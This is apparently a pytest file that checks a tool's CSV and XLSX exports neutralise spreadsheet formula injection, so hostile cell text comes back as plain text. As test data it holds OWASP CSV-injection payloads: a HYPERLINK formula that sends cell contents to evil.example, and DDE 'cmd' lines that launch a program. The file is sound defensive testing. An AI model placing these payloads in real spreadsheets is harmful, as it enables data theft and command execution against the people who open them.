"""Names and measure texts that a spreadsheet would run as formulas stay text in every CSV and XLSX
prongsai writes (report --format csv/xlsx, score -o .csv/.xlsx); numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from prongsai.cli import cli, run
from prongsai.document import measures_export
from prongsai.formulas import NEEDS_QUOTE, csv_text
from prongsai.loader.csvtable import FORMULA_GUARD
from prongsai.scoring.write import write_scores
from tests.document.reports import example, seed_report

# What people have put in cells to make a spreadsheet run something (OWASP "CSV Injection").
HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"คลิกเพื่อดูรายละเอียด")',
    "=cmd|' /C calc'!A0",
    "+66 2 141 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already quoted by someone: must come back with its own quote
)
HARMLESS = ("งานนิติการ สำนักปลัดเทศบาล", "1. จัดอบรม", "'ยกมา", "", "92.13", "ก-ข")


def unquote(cell: str) -> str:
    """What prongsai's own CSV reader (loader.csvtable) makes of the cell the writer wrote."""
    return FORMULA_GUARD.sub("", cell, count=1)


@pytest.mark.parametrize("text", HOSTILE + HARMLESS)
def test_the_apostrophe_rule_goes_both_ways(text: str) -> None:
    written = csv_text(text)
    assert not re.match(r"[=+\-@\t\r\x00]", written)  # no cell starts with a formula character
    assert unquote(written) == text
    assert (written != text) == bool(re.match(NEEDS_QUOTE, text))


def _rows_with(texts: tuple[str, ...]) -> list[dict[str, str | list[str]]]:
    rows = measures_export.measure_rows(seed_report("001"))
    out = []
    for n, text in enumerate(texts):
        row = dict(rows[n % len(rows)])
        row["title"] = text
        row["owner"] = text
        row["co_owners"] = [text, "กองคลัง"]
        out.append(row)
    return out


def test_measures_csv_neutralises_every_formula(tmp_path: Path) -> None:
    data = measures_export.to_csv(_rows_with(HOSTILE + HARMLESS))
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    titles = [row[2] for row in table[1:]]
    assert titles == [csv_text(t) for t in HOSTILE + HARMLESS]
    for row in table[1:]:
        for cell in row:
            assert not re.match(r"[=+\-@\t\r]", cell), cell
    assert [unquote(t) for t in titles] == list(HOSTILE + HARMLESS)


def _formulas_in(xlsx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return [f for n in sheets for f in re.findall(r"<f[ >].*?</f>", archive.read(n).decode())]


def test_measures_xlsx_writes_every_text_as_text() -> None:
    data = measures_export.to_xlsx(_rows_with(HOSTILE + HARMLESS))
    assert _formulas_in(data) == []
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = [sheet.cell(row=r, column=3) for r in range(2, 2 + len(HOSTILE + HARMLESS))]
    assert [c.value or "" for c in cells] == list(HOSTILE + HARMLESS)  # unchanged, no apostrophe
    assert all(c.data_type == "s" for c in cells if c.value)
    assert [c.quotePrefix for c in cells[:7]] == [True] * 7  # editing the cell keeps it text


def _scores(names: tuple[str, ...]) -> pl.DataFrame:
    return pl.DataFrame(
        {
            "agency": list(names),
            "agency_type": ["เทศบาลตำบล"] * len(names),
            "ita_year": [2568] * len(names),
            "overall": [-5.0, *[92.13] * (len(names) - 1)],
            "respondents_IIT": [-3, *[30] * (len(names) - 1)],
        }
    )


def test_scores_csv_quotes_names_and_leaves_numbers(tmp_path: Path) -> None:
    out = tmp_path / "scores.csv"
    write_scores(_scores(HOSTILE + HARMLESS[:2]), out)
    table = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    assert [row["agency"] for row in table] == [csv_text(n) for n in HOSTILE + HARMLESS[:2]]
    assert table[0]["overall"] == "-5.0" and table[0]["respondents_IIT"] == "-3"  # numbers, not quoted


def test_scores_xlsx_writes_names_as_text_and_scores_as_numbers(tmp_path: Path) -> None:
    out = tmp_path / "scores.xlsx"
    write_scores(_scores(HOSTILE), out)
    assert _formulas_in(out.read_bytes()) == []
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    rows = list(sheet.iter_rows(min_row=2))
    assert [r[0].value for r in rows] == list(HOSTILE)
    assert all(r[0].data_type == "s" for r in rows)
    assert rows[0][3].value == -5 and rows[0][3].data_type == "n"


def test_report_csv_and_xlsx_through_the_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A --units file (written by a clerk, or uploaded) names the unit of every measure."""
    shutil.copy(example("001"), tmp_path / "r.yaml")
    units = tmp_path / "units.yaml"
    units.write_text("legal: '=HYPERLINK(\"http://evil.example\")'\nfinance: '@SUM(1+1)'\n", encoding="utf-8")
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"measures.{fmt}"
        code = run(cli, ["report", str(tmp_path / "r.yaml"), "--units", str(units), "-o", str(out)])
        assert code == 0, capsys.readouterr().err
        if fmt == "csv":
            text = out.read_bytes().decode("utf-8-sig")
            owners = [row[5] for row in csv.reader(io.StringIO(text, newline=""))]
            assert any(o.startswith("'=HYPERLINK") or o.startswith("'@SUM") for o in owners), owners
            assert not any(re.match(r"[=+\-@]", o) for o in owners)
        else:
            assert _formulas_in(out.read_bytes()) == []


def test_progress_xlsx_writes_what_people_reported_as_text() -> None:
    """What was done, problems and suggestions come from a progress file people write: a text that
    starts like a formula stays text in the progress report's workbook."""
    import datetime as dt

    from prongsai.document import progress_export
    from prongsai.document.settings import ReportSettings
    from prongsai.planfile import read_plan
    from prongsai.progress import MeasureProgress, Progress, Update
    from tests.conftest import EXAMPLES

    plan = read_plan(EXAMPLES / "seed-000-bueng-phai-2567-plan.yaml")
    updates = tuple(
        Update(dt.date(2024, 1, 1 + n), "in_progress", 10, done=text, problems=text, suggestions=text)
        for n, text in enumerate(HOSTILE)
    )
    progress = Progress(
        plan.agency.name, plan.ita_year, plan.plan_year, (MeasureProgress(plan.measures[0].id, updates),)
    )
    data = progress_export.to_xlsx(plan, progress, ReportSettings(), 6, thai_digits=False)
    assert _formulas_in(data) == []
    book = openpyxl.load_workbook(io.BytesIO(data))
    found = {
        c.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str)
    }
    assert set(HOSTILE) <= found  # each as written, in a text cell
